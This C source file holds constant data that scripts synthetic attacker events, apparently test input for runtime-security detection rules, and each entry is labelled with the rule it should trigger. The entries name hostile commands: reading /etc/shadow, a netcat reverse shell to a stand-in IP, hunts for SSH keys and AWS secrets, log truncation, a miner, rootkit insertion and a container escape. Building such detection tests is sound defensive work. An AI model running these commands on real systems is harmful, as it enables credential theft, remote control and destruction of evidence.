/* SPDX-License-Identifier: Apache-2.0 */
/* What attackers do on the made-up host: short scripts, each of which gives an event that one of the widely used detection rules names (the
 * rule stands beside it). Constant data only. */

#include "synthetic_scripts.h"

#include <base/macros.h>

#define ARGS(s)                                                                                    \
	{                                                                                          \
		.p = (s), .n = sizeof(s)                                                           \
	}
#define NO_ARGS                                                                                    \
	{                                                                                          \
		.p = NULL, .n = 0                                                                  \
	}
#define PROG(comm_, exe_, path_, ...)                                                              \
	(&(const struct syn_prog){.comm = comm_, .exe = exe_, .path = path_, __VA_ARGS__})
#define FORK                                                                                       \
	{                                                                                          \
		.op = SYN_FORK                                                                     \
	}
#define EXEC(p)                                                                                    \
	{                                                                                          \
		.op = SYN_EXEC, .by_child = true, .prog = p                                        \
	}
#define EXIT                                                                                       \
	{                                                                                          \
		.op = SYN_EXIT, .by_child = true                                                   \
	}
#define C_CLOSE                                                                                    \
	{                                                                                          \
		.op = SYN_CLOSE, .by_child = true                                                  \
	}
#define RDONLY 0x1
#define WRONLY_TRUNC 0x106 /* with O_CREAT */
#define WRONLY 0x2
#define INET 2
#define PACKET 17
#define EXE_UPPER 0x2
#define EXE_MEMFD 0x4
#define KEEP SYN_NO_CONTAINER
#define EINPROGRESS_ 115

const struct syn_script syn_scripts[] = {
	/* Read sensitive file untrusted */
	{SYN_LOGIN_SHELL, KEEP, 0, 5,
		{FORK, EXEC(PROG("cat", "cat", "/usr/bin/cat", .args = ARGS("/etc/shadow"))),
			{.op = SYN_OPEN, .by_child = true, .a = RDONLY, .path = "/etc/shadow"},
			C_CLOSE, EXIT}},
	/* Create Symlink Over Sensitive Files */
	{SYN_JAVA, KEEP, 0, 1, {{.op = SYN_SYMLINK, .path = "/etc/shadow", .path2 = "/tmp/link"}}},
	/* Redirect STDOUT/STDIN to Network Connection in Container */
	{SYN_JAVA, KEEP, 0, 6,
		{FORK,
			EXEC(PROG("python3", "python3", "/usr/bin/python3",
				.args = ARGS("-c\0import pty"))),
			{.op = SYN_SOCKET, .by_child = true, .a = INET},
			{.op = SYN_CONNECT, .by_child = true, .a = 0xcb007109, .port = 4444},
			{.op = SYN_DUP2, .by_child = true, .a = 0}, EXIT}},
	/* Run shell untrusted */
	{SYN_NGINX, KEEP, 0, 3,
		{FORK, EXEC(PROG("sh", "sh", "/usr/bin/dash", .args = ARGS("-c\0id"))), EXIT}},
	/* Create Hardlink Over Sensitive Files */
	{SYN_CRON, KEEP, 0, 1, {{.op = SYN_LINK, .path = "/etc/shadow", .path2 = "/tmp/hard"}}},
	/* Search Private Keys or Passwords */
	{SYN_LOGIN_SHELL, KEEP, 0, 3,
		{FORK,
			EXEC(PROG(
				"find", "find", "/usr/bin/find", .args = ARGS("/\0-name\0id_rsa"))),
			EXIT}},
	/* Find AWS Credentials */
	{SYN_LOGIN_SHELL, KEEP, 0, 3,
		{FORK,
			EXEC(PROG("grep", "grep", "/usr/bin/grep",
				.args = ARGS("-ri\0aws_secret_access_key\0/home"))),
			EXIT}},
	/* Terminal shell in container */
	{SYN_SHIM, 2, SYN_TTY, 3,
		{FORK, EXEC(PROG("bash", "bash", "/usr/bin/bash", .args = NO_ARGS)), EXIT}},
	/* Clear Log Activities */
	{SYN_LOGIN_SHELL, KEEP, 0, 5,
		{FORK,
			EXEC(PROG("truncate", "truncate", "/usr/bin/truncate",
				.args = ARGS("-s\0"
					     "0\0/var/log/auth.log"))),
			{.op = SYN_OPEN,
				.by_child = true,
				.a = WRONLY_TRUNC,
				.path = "/var/log/auth.log"},
			C_CLOSE, EXIT}},
	/* Remove Bulk Data from Disk */
	{SYN_CRON, KEEP, 0, 3,
		{FORK,
			EXEC(PROG("shred", "shred", "/usr/bin/shred",
				.args = ARGS("-u\0/srv/app/state.db"))),
			EXIT}},
	/* PTRACE attached to process */
	{SYN_LOGIN_SHELL, KEEP, 0, 4,
		{FORK,
			EXEC(PROG("gdb", "gdb", "/usr/bin/gdb",
				.args = ARGS("-p\0"
					     "730"))),
			{.op = SYN_PTRACE, .by_child = true, .a = 0xb}, EXIT}},
	/* PTRACE anti-debug attempt */
	{SYN_JAVA, KEEP, 0, 1, {{.op = SYN_PTRACE, .a = 0x1}}},
	/* Packet socket created in container */
	{SYN_NGINX, KEEP, 0, 2, {{.op = SYN_SOCKET, .a = PACKET}, {.op = SYN_CLOSE}}},
	/* Netcat Remote Code Execution in Container */
	{SYN_JAVA, KEEP, 0, 3,
		{FORK,
			EXEC(PROG("nc", "nc", "/usr/bin/nc",
				.args = ARGS("-e\0/bin/sh\0"
					     "203.0.113.9\0"
					     "4444"))),
			EXIT}},
	/* Execution from /dev/shm */
	{SYN_LOGIN_SHELL, KEEP, 0, 3,
		{FORK, EXEC(PROG(".x", "/dev/shm/.x", "/dev/shm/.x", .args = ARGS("--daemon"))),
			EXIT}},
	/* Drop and execute new binary in container */
	{SYN_JAVA, KEEP, 0, 3,
		{FORK,
			EXEC(PROG("xmrig", "./xmrig", "/tmp/xmrig", .args = ARGS("-o\0pool:3333"),
				.flags = EXE_UPPER)),
			EXIT}},
	/* Fileless execution via memfd_create */
	{SYN_CRON, KEEP, 0, 3,
		{FORK,
			EXEC(PROG("3", "kworker", "memfd:payload", .args = NO_ARGS,
				.flags = EXE_MEMFD)),
			EXIT}},
	/* Linux Kernel Module Injection Detected */
	{SYN_NGINX, KEEP, 0, 6,
		{FORK, EXEC(PROG("insmod", "insmod", "/usr/sbin/insmod", .args = ARGS("rk.ko"))),
			{.op = SYN_OPEN, .by_child = true, .a = RDONLY, .path = "/tmp/rk.ko"},
			{.op = SYN_MODULE, .by_child = true}, C_CLOSE, EXIT}},
	/* Detect release_agent File Container Escapes */
	{SYN_NGINX, KEEP, 0, 5,
		{FORK,
			EXEC(PROG("tee", "tee", "/usr/bin/tee",
				.args = ARGS("/tmp/cg/release_agent"))),
			{.op = SYN_OPEN,
				.by_child = true,
				.a = WRONLY,
				.path = "/tmp/cg/release_agent"},
			C_CLOSE, EXIT}},
	/* Disallowed SSH Connection Non Standard Port */
	{SYN_LOGIN_SHELL, KEEP, 0, 6,
		{FORK,
			EXEC(PROG("ssh", "ssh", "/usr/bin/ssh",
				.args = ARGS("-p\0"
					     "443\0evil.example"))),
			{.op = SYN_SOCKET, .by_child = true, .a = INET},
			{.op = SYN_CONNECT,
				.by_child = true,
				.a = 0xc6336407,
				.port = 443,
				.res = -EINPROGRESS_},
			C_CLOSE, EXIT}},
	/* Directory traversal monitored file read */
	{SYN_NGINX, KEEP, 0, 2,
		{{.op = SYN_OPEN, .a = RDONLY, .path = "/var/www/html/../../../etc/passwd"},
			{.op = SYN_CLOSE}}},
	/* System user interactive */
	{SYN_WWW_SHELL, KEEP, 0, 3,
		{FORK, EXEC(PROG("id", "id", "/usr/bin/id", .args = NO_ARGS)), EXIT}},
	/* Read sensitive file trusted after startup; mysqld is no trusted reader either */
	{SYN_MYSQLD, KEEP, 0, 2,
		{{.op = SYN_OPEN, .a = RDONLY, .path = "/etc/shadow"}, {.op = SYN_CLOSE}}},
};
const unsigned syn_n_scripts = ARRAY_LEN(syn_scripts);
